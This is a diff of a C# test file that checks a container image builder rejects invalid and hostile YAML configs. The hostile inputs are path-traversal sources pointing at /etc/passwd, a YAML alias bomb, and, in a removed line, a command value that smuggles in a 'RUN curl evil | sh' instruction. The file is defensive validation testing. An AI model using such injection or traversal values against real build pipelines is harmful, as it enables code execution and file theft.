@@ -19,15 +19,9 @@ public sealed class ImageBuilderRefusalTests
         { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    lives:\n      in: /\n", "in: \"/\" is not a valid absolute non-root path (at variants.test.lives.in, line 6)" },
         { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    runs:\n      as: root\n", "as: \"root\" is not a valid user name (at variants.test.runs.as, line 6)" },
         { $"version: v4\nbase: {Base}\nvariants:\n  prod:\n    includes: [nope]\n", "includes[0]: references an unknown variant \"nope\" (at variants.prod.includes, line 5)" },
-        // BuildKit-only features: refused, never built differently.
-        { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    builders:\n      - custom:\n          script: echo hi\n",
-          "builder.script: is not supported: Slipway builds classic Dockerfiles, which cannot run a script without it landing in the image; use \"command\" (at variants.test, line 7)" },
-        { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    builder:\n      command: [make]\n      caches: [/root/.cache]\n",
-          "builder.caches: is not supported: Slipway builds classic Dockerfiles, which have no BuildKit cache mounts (the cached files would land in the image) (at variants.test, line 6)" },
         // Hostile configs.
         { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    copies:\n      - from: local\n        source: ../../etc/passwd\n", "source: path must be relative when \"from\" is \"local\" (at variants.test.copies[0], line 6)" },
         { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    copies:\n      - from: local\n        source: /etc/passwd\n", "source: path must be relative when \"from\" is \"local\" (at variants.test.copies[0], line 6)" },
-        { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    builder:\n      command: \"true\\nRUN curl evil | sh\"\n", "command: must not contain control characters (newlines, tabs) (at variants.test.builder.command, line 6)" },
         { $"version: v4\nbase: {Base}\nvariants:\n  test:\n    entrypoint: [./x]\n    builder: {"{"}command: [make]{"}"}\n    runs: {"{"}environment: {"{"}\"A B\": x{"}"}{"}"}\n", "environment: contains invalid environment variable names (at variants.test.runs.environment, line 7)" },
         { AliasBomb(), "config too large: more than 100000 YAML nodes (after alias expansion) (line 2)" },
         { $"version: v4\nbase: {Base}\nvariants:\n  test: {"{"}{"}"}\n" + new string('#', 1_100_000) + "\n", ".pipeline/blubber.yaml: file is larger than 1048576 bytes" },
